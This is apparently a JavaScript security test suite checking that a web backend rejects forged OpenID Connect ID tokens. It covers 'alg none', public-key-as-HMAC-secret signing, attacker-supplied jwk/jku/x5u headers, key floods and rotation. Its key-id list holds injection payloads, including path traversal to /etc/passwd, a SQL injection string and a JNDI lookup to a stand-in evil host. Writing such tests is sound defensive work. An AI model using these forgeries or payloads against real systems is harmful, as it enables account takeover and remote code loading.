// Section C: what is believed of an ID token's signature and key.

import assert from 'node:assert/strict';

import { signWithSecret, unsigned } from '../provider/key.mjs';

/** @typedef {import('../bff.mjs').Bff} Bff */
/** @typedef {import('../provider/realm.mjs').Realm} Realm */
/** @typedef {import('../provider/realm.mjs').Lies} Lies */

/** A sign-in with these lies is refused for this reason, after the code was redeemed. @param {Bff} bff @param {Lies} lies @param {string} why @param {Realm} [realm] @param {string | string[]} [reason] */
export async function disbelieved(bff, lies, why, realm = bff.realms.oidc, reason = 'signature') {
  realm.lies = lies;
  const browser = bff.browser();
  await bff.refused(browser, () => bff.signIn(browser, realm), { realm, redeems: true, why, reason });
  realm.lies = {};
}

/** A sign-in with these lies succeeds. @param {Bff} bff @param {Lies} lies @param {string} why @param {Realm} [realm] */
export async function believed(bff, lies, why, realm = bff.realms.oidc) {
  realm.lies = lies;
  const answer = await bff.signIn(bff.browser(), realm);
  assert.ok(bff.givesSession(answer), `${why}: ${answer.status}\n${bff.tail()}`);
  realm.lies = {};
}

/** @type {import('../case.mjs').Case[]} */
export const cases = [
  {
    id: 'S37',
    title: 'ID token without a signature',
    async attack(bff) {
      for (const alg of [
        'none',
        'None',
        'nOnE',
        'NONE',
        '',
        'null',
        undefined,
        null,
        0,
        ['none'],
        'RS256 ',
        'rs256',
        'RS256\u0000',
      ]) {
        for (const signature of ['', 'AA', 'honest']) {
          await disbelieved(
            bff,
            {
              idToken: async ({ header, claims, key }) =>
                signature === 'honest'
                  ? key.signAnyway({ ...header, alg }, claims)
                  : `${unsigned({ ...header, alg }, claims)}.${signature}`,
            },
            `alg ${JSON.stringify(alg)}, signature ${signature || 'empty'}`,
          );
        }
      }
      await disbelieved(bff, { idToken: ({ header, claims }) => unsigned(header, claims) }, 'no third part');
      await disbelieved(
        bff,
        { idToken: ({ header, claims }) => `${unsigned(header, claims)}.` },
        'RS256 without a signature',
      );
      await disbelieved(
        bff,
        { idToken: async ({ header, claims, key }) => `${await key.sign(header, claims)}x` },
        'signature too long',
      );
      await disbelieved(
        bff,
        {
          idToken: async ({ header, claims, key }) => {
            const [head, , signature] = (await key.sign(header, claims)).split('.');
            return `${head}.${unsigned(header, { ...claims, sub: 'somebody-else' }).split('.')[1]}.${signature}`;
          },
        },
        'claims changed after signing',
      );
      await disbelieved(bff, { idToken: () => undefined }, 'no ID token at all');
      await believed(
        bff,
        { idToken: ({ header, claims, key }) => key.signAnyway(header, claims) },
        'the same with its signature',
      );
    },
  },
  {
    id: 'S38',
    title: 'ID token signed with the public key as a secret',
    async attack(bff) {
      for (const alg of ['HS256', 'HS384', 'HS512', 'RS256']) {
        await disbelieved(
          bff,
          { idToken: ({ header, claims, key }) => signWithSecret({ ...header, alg }, claims, key.pem) },
          `${alg} with the PEM`,
        );
        const der = (/** @type {string} */ pem) => Buffer.from(pem.replace(/-----[A-Z ]+-----|\s/g, ''), 'base64');
        await disbelieved(
          bff,
          { idToken: ({ header, claims, key }) => signWithSecret({ ...header, alg }, claims, key.pem.trim()) },
          `${alg} with the trimmed PEM`,
        );
        await disbelieved(
          bff,
          { idToken: ({ header, claims, key }) => signWithSecret({ ...header, alg }, claims, der(key.pem)) },
          `${alg} with the DER`,
        );
        await disbelieved(
          bff,
          { idToken: ({ header, claims, key }) => signWithSecret({ ...header, alg }, claims, JSON.stringify(key.jwk)) },
          `${alg} with the JWK`,
        );
        await disbelieved(
          bff,
          {
            idToken: ({ header, claims, key }) =>
              signWithSecret({ ...header, alg }, claims, Buffer.from(String(key.jwk.n), 'base64url')),
          },
          `${alg} with the modulus`,
        );
      }
      await believed(
        bff,
        { idToken: ({ header, claims, key }) => key.signAnyway(header, claims) },
        'the same with its own signature',
      );
    },
  },
  {
    id: 'S39',
    title: 'ID token signed with an empty secret, keys without an algorithm',
    async attack(bff) {
      const realm = await bff.fresh();
      const keys = (/** @type {{ keys: import('../provider/key.mjs').Json[] }} */ set) => ({
        keys: set.keys.map((key) => ({ ...key, alg: undefined, use: undefined })),
      });
      for (const secret of ['', '\u0000']) {
        await disbelieved(
          bff,
          { keys, idToken: ({ header, claims }) => signWithSecret({ ...header, alg: 'HS256' }, claims, secret) },
          `HS256 with ${JSON.stringify(secret)}`,
          realm,
        );
      }
      await believed(bff, { keys }, 'an honest token, of a key that names no algorithm', realm);
      const octets = await bff.fresh();
      const secretKey = (/** @type {unknown} */ k) => () => ({ keys: [{ kty: 'oct', kid: 'honest-1', k }] });
      await disbelieved(
        bff,
        {
          keys: secretKey(''),
          idToken: ({ header, claims }) => signWithSecret({ ...header, alg: 'HS256' }, claims, ''),
        },
        'a secret in the key set',
        octets,
      );
    },
  },
  {
    id: 'S41',
    title: 'key id that looks like a path or a query',
    async attack(bff, provider) {
      const realm = await bff.fresh();
      await believed(bff, {}, 'at first', realm);
      const fetches = realm.asked('keys').length;
      for (const kid of [
        '../../../etc/passwd',
        "' OR '1'='1",
        'honest-1/../honest-1',
        '/dev/null',
        '',
        ' honest-1',
        'HONEST-1',
        'honest-1\u0000',
        'x'.repeat(10_000),
        `${provider.origin}/stolen`,
        '${jndi:ldap://evil.example}',
        '__proto__',
        'constructor',
      ]) {
        await disbelieved(bff, { header: (header) => ({ ...header, kid }) }, `kid ${kid.slice(0, 40)}`, realm);
      }
      for (const kid of [1, true, ['honest-1'], { a: 1 }]) {
        await disbelieved(
          bff,
          { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, kid }, claims) },
          `kid ${JSON.stringify(kid)}`,
          realm,
        );
      }
      // None of them, whichever way that is said: the only key there is.
      await believed(
        bff,
        { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, kid: null }, claims) },
        'kid null',
        realm,
      );
      await disbelieved(
        bff,
        { idToken: ({ header, claims }) => provider.otherKey.signAnyway({ ...header, kid: null }, claims) },
        'kid null, by another key',
        realm,
      );
      assert.ok(
        realm.asked('keys').length - fetches <= bff.instances,
        'a lookup that misses asks for the keys once more at most',
      );
      assert.deepEqual(
        provider.strays.filter(({ path }) => path.includes('stolen')),
        [],
      );
      await believed(bff, {}, 'afterwards', realm);
    },
  },
  {
    id: 'S42',
    title: 'flood of unknown key ids: one fetch of keys, nobody locked out',
    async attack(bff, provider) {
      const realm = await bff.fresh();
      await believed(bff, {}, 'before', realm);
      const fetches = realm.asked('keys').length;
      const refusals = bff.running && bff.rejections('unknown key');
      realm.lies = {
        idToken: ({ header, claims }) => provider.otherKey.sign({ ...header, kid: `unknown-${Math.random()}` }, claims),
      };
      const answers = await Promise.all(Array.from({ length: 150 }, () => bff.signIn(bff.browser(), realm)));
      assert.ok(answers.every((answer) => answer.status >= 400 && !bff.givesSession(answer)));
      const fetched = realm.asked('keys').length - fetches;
      assert.equal(fetched, 1, 'fetches of keys for 150 forged tokens');
      await bff.rejectedSince('unknown key', refusals ?? 0, 'forged tokens');
      await believed(bff, {}, 'good keys are not locked out', realm);
    },
  },
  {
    id: 'S43',
    title: 'ID token that brings its own key: not believed, nothing fetched',
    async attack(bff, provider) {
      const evil = provider.otherKey;
      const place = `${provider.origin}/stolen`;
      for (const extra of [
        { jwk: evil.jwk },
        { jku: place },
        { x5u: place },
        { x5c: [Buffer.from('evil').toString('base64')] },
        { jwk: evil.jwk, jku: place, x5u: place, kid: evil.kid },
      ]) {
        await disbelieved(
          bff,
          { idToken: ({ header, claims }) => evil.signAnyway({ ...header, ...extra }, claims) },
          `header ${Object.keys(extra)}`,
        );
      }
      assert.deepEqual(
        provider.strays.filter(({ path }) => path === '/stolen'),
        [],
      );
      await believed(
        bff,
        {
          idToken: ({ header, claims, key }) =>
            key.signAnyway({ ...header, jku: place, x5u: place, jwk: evil.jwk }, claims),
        },
        'signed by the known key, whatever it brings',
      );
      assert.deepEqual(
        provider.strays.filter(({ path }) => path === '/stolen'),
        [],
      );
      // `crit` names extensions that must be understood; none is.
      await disbelieved(
        bff,
        { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, crit: ['evil'], evil: true }, claims) },
        'a critical extension',
      );
      await disbelieved(
        bff,
        { idToken: ({ header, claims, key }) => key.signAnyway({ ...header, crit: ['b64'], b64: false }, claims) },
        'an unencoded payload',
      );
    },
  },
  {
    id: 'S45',
    title: 'ID token without a key id: the only key will do, of several none is guessed wrongly',
    async attack(bff, provider) {
      const withoutKid = (/** @type {import('../provider/key.mjs').Json} */ header) => ({ ...header, kid: undefined });
      const only = await bff.fresh();
      await believed(bff, { header: withoutKid }, 'one key', only);
      const several = await bff.fresh();
      several.keys = [provider.key, provider.otherKey];
      await believed(bff, {}, 'several keys, and the token names one', several);
      await disbelieved(bff, { header: withoutKid }, 'several keys, and the token names none', several, 'unknown key');
      // Neither way may a key of another provider do.
      await disbelieved(
        bff,
        { idToken: ({ header, claims }) => provider.otherKey.sign(withoutKid(header), claims) },
        "a key that is not the provider's",
        only,
      );
    },
  },
  {
    id: 'S52',
    title: 'keys rotated between login and callback: believed after one fetch; the old key is not',
    async attack(bff, provider) {
      const realm = await bff.fresh();
      await believed(bff, {}, 'the first key', realm);
      const browser = bff.browser();
      const flow = await bff.begin(browser, realm);
      const fetches = realm.asked('keys').length;
      realm.keys = [provider.otherKey];
      const answer = await browser.visit(await flow.callback());
      assert.ok(bff.givesSession(answer), `after the rotation: ${answer.status}`);
      assert.equal(realm.asked('keys').length, fetches + 1);
      const [old] = [provider.key];
      const late = bff.browser();
      const lateFlow = await bff.begin(late, realm);
      realm.lies = { idToken: ({ header, claims }) => old.sign({ ...header, kid: old.kid }, claims) };
      if (bff.instances > 1) {
        // Another instance may believe the old key, for as long as a unit test of this number says; none may refuse it
        // for anything else.
        const answer = await late.visit(await lateFlow.callback());
        if (!bff.isRedirect(answer)) await bff.rejected(answer, 'signed with the old key', 'unknown key');
        assert.equal(bff.isRedirect(answer), (await bff.user(late)) !== undefined);
        return;
      }
      await bff.refused(late, async () => late.visit(await lateFlow.callback()), {
        realm,
        redeems: true,
        why: 'signed with the old key',
        reason: 'unknown key',
      });
    },
  },
  {
    id: 'S149',
    title: 'unknown or invalid keys are refusals, not traps',
    async attack(bff) {
      const jwk = bff.realms.oidc.honestKey.jwk;
      for (const bad of [
        { keys: [] },
        { keys: null },
        {},
        [],
        null,
        { keys: [null, 1, 'x', {}] },
        { keys: [{ kty: 'RSA' }] },
        { keys: [{ ...jwk, n: '' }] },
        { keys: [{ ...jwk, n: 'AA' }] },
        { keys: [{ ...jwk, n: '!' }] },
        { keys: [{ ...jwk, e: 'AA' }] },
        { keys: [{ ...jwk, kty: 'EC', crv: 'P-256', x: 'AA', y: 'AA' }] },
        { keys: [{ ...jwk, kty: 'OKP', crv: 'Ed25519', x: 'AA' }] },
        { keys: [{ ...jwk, use: 'enc' }] },
        { keys: [{ ...jwk, alg: 'RS512' }] },
        { keys: [jwk, jwk] },
      ]) {
        const realm = await bff.fresh();
        realm.lies = { keys: () => bad };
        const browser = bff.browser();
        await bff.refused(browser, () => bff.signIn(browser, realm), {
          realm,
          redeems: true,
          status: [400, 502, 503],
          why: `key set ${JSON.stringify(bad).slice(0, 80)}`,
          reason: ['signature', 'outage'],
        });
        realm.lies = {};
      }
      await believed(bff, {}, 'others sign in all the same');
    },
  },
];
